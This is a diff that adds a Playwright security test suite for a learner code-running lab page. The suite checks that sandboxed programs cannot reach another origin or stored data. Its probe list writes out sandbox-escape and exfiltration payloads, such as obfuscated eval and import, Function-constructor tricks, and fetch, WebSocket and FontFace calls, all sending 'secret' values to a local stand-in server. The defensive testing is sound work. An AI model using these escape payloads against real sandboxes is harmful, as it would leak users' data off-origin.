@@ -1,0 +1,209 @@
+import { createServer, type Server } from 'node:http';
+import type { Page } from '@playwright/test';
+import { expect, exportedRoutes, test } from './fixtures';
+
+// Issue 17: a learner's program must not reach any other origin, the learner's stored data, Web
+// Locks or OPFS. A second local server listens on another port while hostile programs run; it
+// must receive nothing. The fixture's own route (which aborts off-origin requests before they
+// leave the browser) is removed for these tests, so only the app's own defences stand between
+// the program and that server.
+const EXFIL_PORT = Number(process.env.E2E_EXFIL_PORT ?? Number(process.env.E2E_PORT ?? 4173) + 1);
+const EXFIL = `127.0.0.1:${EXFIL_PORT}`;
+
+let server: Server;
+const arrived: string[] = [];
+
+test.beforeAll(async () => {
+  server = createServer((req, res) => {
+    arrived.push(`${req.method} ${req.url}`);
+    res
+      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
+      .end('export default 1;');
+  });
+  server.on('upgrade', (req, socket) => {
+    arrived.push(`UPGRADE ${req.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve, reject) =>
+    server.once('error', reject).listen(EXFIL_PORT, '127.0.0.1', resolve),
+  );
+});
+
+test.afterAll(async () => {
+  await new Promise((resolve) => server.close(resolve));
+});
+
+async function openLab(page: Page) {
+  // Let off-origin requests go out for real: only the app may stop them.
+  await page.context().unroute('**/*');
+  await page.goto('/practice/claim-lab');
+  await expect(page.locator('.monaco-editor .view-lines')).toContainText('UPDATE jobs');
+}
+
+/** Replaces the program and runs it; the caller waits for what the run must show. */
+async function runProgram(page: Page, source: string) {
+  await page.getByRole('textbox', { name: 'Lab program editor' }).focus();
+  await page.keyboard.press('ControlOrMeta+A');
+  await page.keyboard.press('Delete');
+  await page.keyboard.insertText(source);
+  await page.getByRole('button', { name: 'Run', exact: true }).click();
+}
+
+const runStatus = (page: Page) => page.getByRole('status').first();
+
+// Type checking is not the guard being tested: each probe opts out of it on its first line.
+const probes: { name: string; source: string; error: RegExp }[] = [
+  {
+    name: 'indirect eval of a hidden import',
+    source: `(0, eval)('imp' + 'ort("http://${EXFIL}/eval?secret=42")');`,
+    error: /Exception on line 2: ReferenceError: eval is not defined/,
+  },
+  {
+    name: 'import with a comment before the parenthesis',
+    source: `import/**/("http://${EXFIL}/import?secret=42");`,
+    error: /A lab program is one script: "import" is not available.*line 2/,
+  },
+  {
+    name: 'new Function hiding an import',
+    source: `new Function('return imp' + 'ort("http://${EXFIL}/function?secret=42")')();`,
+    error: /Exception on line 2: ReferenceError: Function is not defined/,
+  },
+  {
+    name: 'the Function constructor reached through a function',
+    source: `(() => 0).constructor('return imp' + 'ort("http://${EXFIL}/constructor")')();`,
+    error: /Exception on line 2: TypeError: .*constructor is not a function/,
+  },
+  {
+    name: 'a font loaded from another origin',
+    source: `new FontFace('x', 'url(http://${EXFIL}/font?secret=42)').load();`,
+    error: /Exception on line 2: ReferenceError: FontFace is not defined/,
+  },
+  {
+    name: 'a WebSocketStream',
+    source: `new WebSocketStream('ws://${EXFIL}/stream?secret=42');`,
+    error: /Exception on line 2: ReferenceError: WebSocketStream is not defined/,
+  },
+  {
+    name: 'the classic network APIs',
+    source: `const tries = [
+  () => fetch('http://${EXFIL}/fetch'),
+  () => new WebSocket('ws://${EXFIL}/ws'),
+  () => new EventSource('http://${EXFIL}/events'),
+  () => new XMLHttpRequest(),
+  () => importScripts('http://${EXFIL}/script.js'),
+  () => new Worker('http://${EXFIL}/worker.js'),
+  () => new SharedWorker('http://${EXFIL}/shared.js'),
+];
+for (const t of tries) t();`,
+    error: /Exception on line 3: ReferenceError: fetch is not defined/,
+  },
+  {
+    name: 'stored data (IndexedDB)',
+    source: `indexedDB.open('lease-lab');`,
+    error: /Exception on line 2: ReferenceError: indexedDB is not defined/,
+  },
+  {
+    name: 'stored data (localStorage, Cache Storage)',
+    source: `print(typeof localStorage, typeof caches, typeof self, typeof location);\nlocalStorage.getItem('x');`,
+    error: /Exception on line 3: ReferenceError: localStorage is not defined/,
+  },
+  {
+    name: 'Web Locks held forever',
+    source: `navigator.locks.request('lease-lab.records', () => new Promise(() => {}));`,
+    error: /Exception on line 2: ReferenceError: navigator is not defined/,
+  },
+  {
+    name: 'OPFS',
+    source: `navigator.storage.getDirectory();`,
+    error: /Exception on line 2: ReferenceError: navigator is not defined/,
+  },
+];
+
+test('hostile programs get a clear error, and the second server receives nothing', async ({
+  page,
+}) => {
+  test.setTimeout(180_000);
+  await openLab(page);
+  // Each probe's error differs from the one before it, so waiting for it never reads a stale status.
+  for (const probe of probes) {
+    await runProgram(page, `// @ts-nocheck\n${probe.source}`);
+    await expect(runStatus(page), probe.name).toHaveText(probe.error, { timeout: 20_000 });
+  }
+  // A last, harmless program proves the lab still works after all of them.
+  await runProgram(page, `print('still here')`);
+  await expect(runStatus(page)).toHaveText(/^Ran in/, { timeout: 20_000 });
+  await expect(page.getByRole('cell', { name: 'still here', exact: true })).toBeVisible();
+  expect(arrived).toEqual([]);
+});
+
+test('the page policy holds inside a blob: worker even where the API is present', async ({
+  page,
+  guard,
+}) => {
+  // The browser's own refusals are logged as console errors; they are what this test wants.
+  guard.allowConsole.push(/Content Security Policy|Refused to|WebSocket|Failed to fetch|net::ERR/);
+  await openLab(page);
+  const results = await page.evaluate(async (target) => {
+    const body = `
+      const tries = {
+        fetch: () => fetch('http://${target}/w-fetch'),
+        import: () => import('http://${target}/w-import.js'),
+        font: () => new FontFace('x', 'url(http://${target}/w-font)').load(),
+        stream: () => new WebSocketStream('ws://${target}/w-stream').opened,
+        socket: () => new Promise((ok, fail) => { const s = new WebSocket('ws://${target}/w-ws'); s.onopen = ok; s.onerror = () => fail(new Error('refused')); }),
+      };
+      (async () => {
+        const out = {};
+        for (const [name, run] of Object.entries(tries)) {
+          try { await run(); out[name] = 'reached'; } catch (e) { out[name] = 'blocked: ' + (e && e.name); }
+        }
+        postMessage(out);
+      })();`;
+    const worker = new Worker(URL.createObjectURL(new Blob([body], { type: 'text/javascript' })));
+    return new Promise<Record<string, string>>((resolve) => {
+      worker.onmessage = (event) => resolve(event.data as Record<string, string>);
+    });
+  }, EXFIL);
+  for (const [name, result] of Object.entries(results)) expect(result, name).toMatch(/^blocked/);
+  expect(arrived).toEqual([]);
+});
+
+test('nothing carries over from one run to the next (issue 17, point 9)', async ({ page }) => {
+  await openLab(page);
+  await runProgram(
+    page,
+    `// @ts-nocheck\nJSON.stringify = () => 'patched';\nObject.prototype.hacked = 1;\nprint(JSON.stringify({ a: 1 }));`,
+  );
+  await expect(page.getByRole('cell', { name: 'patched', exact: true })).toBeVisible({
+    timeout: 20_000,
+  });
+  await runProgram(
+    page,
+    `// @ts-nocheck\nprint(JSON.stringify({ a: 1 }), typeof ({} as any).hacked);`,
+  );
+  await expect(page.getByRole('cell', { name: '{"a":1} undefined', exact: true })).toBeVisible({
+    timeout: 20_000,
+  });
+  await expect(runStatus(page)).toHaveText(/^Ran in/);
+});
+
+test('every exported page carries the Content-Security-Policy', async ({ request }) => {
+  for (const route of exportedRoutes()) {
+    const html = await (await request.get(route)).text();
+    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/i.exec(html);
+    expect(meta, route).not.toBeNull();
+    const policy = meta![1].replaceAll('&#x27;', "'");
+    for (const directive of [
+      "connect-src 'self'",
+      "font-src 'self'",
+      "media-src 'none'",
+      "worker-src 'self' blob:",
+      "object-src 'none'",
+    ]) {
+      expect(policy, `${route}: ${directive}`).toContain(directive);
+    }
+    expect(policy).toMatch(
+      /script-src 'self' 'unsafe-inline' 'unsafe-eval' 'wasm-unsafe-eval'(;|$)/,
+    );
+  }
+});
